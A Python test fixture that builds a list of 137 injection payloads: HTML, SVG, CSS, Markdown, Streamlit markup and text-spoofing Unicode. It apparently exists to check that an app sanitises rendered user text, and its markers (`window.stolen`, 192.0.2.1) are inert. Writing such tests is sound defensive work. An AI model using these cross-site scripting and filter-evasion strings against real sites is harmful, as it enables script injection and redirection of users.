"""What people have put into texts to make a page run, fetch or show something: 137 lines, collected by kind.

Each either calls `window.stolen`, asks 192.0.2.1 for something (an address that nobody has), or would turn
into something other than its own letters. `HERE` and `THERE` stand for such a call and such an address.
"""

from __future__ import annotations

HERE = "window.stolen=1"
THERE = "http://192.0.2.1/p"

_HTML = """
<script>HERE</script>
<SCRIPT>HERE</SCRIPT>
<scr<script>ipt>HERE</scr</script>ipt>
<script src=THERE></script>
<script>HERE//
</textarea><script>HERE</script>
</title><script>HERE</script>
</style><script>HERE</script>
--><script>HERE</script>
]]><script>HERE</script>
"><script>HERE</script>
'><script>HERE</script>
`><script>HERE</script>
<img src=x onerror=HERE>
<img src=x onerror="HERE">
<IMG SRC=x OnErRoR=HERE>
<img/src=x/onerror=HERE>
<img src=THERE>
<img srcset="THERE 1x">
"><img src=x onerror=HERE>
' onmouseover='HERE
" onfocus="HERE" autofocus="
<body onload=HERE>
<input autofocus onfocus=HERE>
<select autofocus onfocus=HERE>
<textarea autofocus onfocus=HERE>
<button autofocus onfocus=HERE>x</button>
<details open ontoggle=HERE>
<video src=x onerror=HERE>
<video><source onerror=HERE></video>
<video poster=THERE>
<audio src=THERE autoplay>
<iframe src="javascript:parent.HERE"></iframe>
<iframe srcdoc="<script>parent.HERE</script>"></iframe>
<iframe src=THERE></iframe>
<object data=THERE></object>
<embed src=THERE>
<link rel=stylesheet href=THERE>
<link rel=prefetch href=THERE>
<base href=THERE>
<meta http-equiv=refresh content="0;url=THERE">
<form action=THERE><button>Continue</button></form>
<a href=THERE>click here</a>
<a href="javascript:HERE">click here</a>
<a href=THERE ping=THERE>click</a>
<marquee onstart=HERE>x</marquee>
<table background=THERE><td>x</td></table>
<xss onpointerenter=HERE style=display:block>x</xss>
<template><script>HERE</script></template>
<noscript><p title="</noscript><img src=x onerror=HERE>">
<math><mtext><table><mglyph><style><img src=x onerror=HERE>
<b>bold</b> <i>italic</i> <h1>heading</h1> <hr>
&lt;script&gt;HERE&lt;/script&gt;
&#60;img src=x onerror=HERE&#62;
\\x3cscript\\x3eHERE\\x3c/script\\x3e
\\u003cimg src=x onerror=HERE\\u003e
%3Cscript%3EHERE%3C/script%3E
＜script＞HERE＜/script＞
<!--<img src="--><img src=x onerror=HERE>">
<![CDATA[<script>HERE</script>]]>
<?xml version="1.0"?><script>HERE</script>
{{constructor.constructor('HERE')()}}
${HERE}
#{HERE}
<%= HERE %>
"""
_SVG = """
<svg onload=HERE>
<svg><script>HERE</script></svg>
<svg><animate onbegin=HERE attributeName=x dur=1s>
<svg><a xlink:href="javascript:HERE"><text x=20 y=20>x</text></a></svg>
<svg><image href=THERE></svg>
<svg><use href="THERE#x"></svg>
<svg><style>@import 'THERE';</style></svg>
<svg><foreignObject><img src=x onerror=HERE></foreignObject></svg>
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
data:text/html,<script>HERE</script>
"""
_CSS = """
<style>*{background:url(THERE)}</style>
<style>@import url(THERE);</style>
<p style="background:url(THERE)">x</p>
<div style="position:fixed;inset:0;z-index:999999;background:red">x</div>
<p style="width:expression(HERE)">x</p>
</style><style>body{display:none}
@font-face{font-family:x;src:url(THERE)}
"""
_MARKDOWN = """
![x](THERE)
![x](THERE "title")
![x][image]
[image]: THERE
[click here](THERE)
[click here](javascript:HERE)
[click here](JaVaScRiPt:HERE)
[click here](java%0ascript:HERE)
[click here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[click here](vbscript:HERE)
[click here]( javascript:HERE)
[click here][link]
[link]: javascript:HERE
[![x](THERE)](THERE)
<THERE>
<javascript:HERE>
THERE
https://192.0.2.1/autolink
www.example.com/autolink
somebody@example.com
mailto:somebody@example.com
**bold** _italic_ ~~gone~~ `code`
# A heading
> A quotation
1. A list
- [ ] A task
| a | b |
*** rule
```html
[^1]: THERE
==marked== H~2~O x^2^
<!-- ![x](THERE) -->
"""
_STREAMLIT = """
:material/delete:
:material/home: :shortcode: :smile: :streamlit:
:red[red] :blue-background[blue] :rainbow[rainbow]
:red-badge[badge] :small[small]
:green[![x](THERE)]
$latex$ $$E = mc^2$$
$\\href{THERE}{click}$
$\\includegraphics{THERE}$
$\\url{javascript:HERE}$
\\(x^2\\) \\[x^2\\]
:streamlit: :link[THERE]
"""
# characters that reorder, hide or break text
_CHARACTERS = (
    "annex\u202efdp.exe",
    "\u2066a\u2069 \u2067b\u2069 \u061c\u200e\u200f",
    "bell\x07 escape\x1b[31mred\x1b[0m \x1b]8;;http://192.0.2.1/p\x07link\x1b]8;;\x07",
    "\x7f\x80\x9f\x01",
    "zero\u200bwidth\u200d\ufeff",
    "line\u2028and\u2029paragraph",
    "stacked z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324",
    "tags \U000e0041\U000e0042",
    "\u2800\u3164\uffa0",
    "java\tscript:window.stolen=1",
    "very" * 60,
    "超长的中文标题" * 30,
)


def _lines(text: str) -> list[str]:
    return [line.replace("THERE", THERE).replace("HERE", HERE) for line in text.strip().splitlines()]


PAYLOADS = [
    *(line for kind in (_HTML, _SVG, _CSS, _MARKDOWN, _STREAMLIT) for line in _lines(kind)),
    *_CHARACTERS,
]
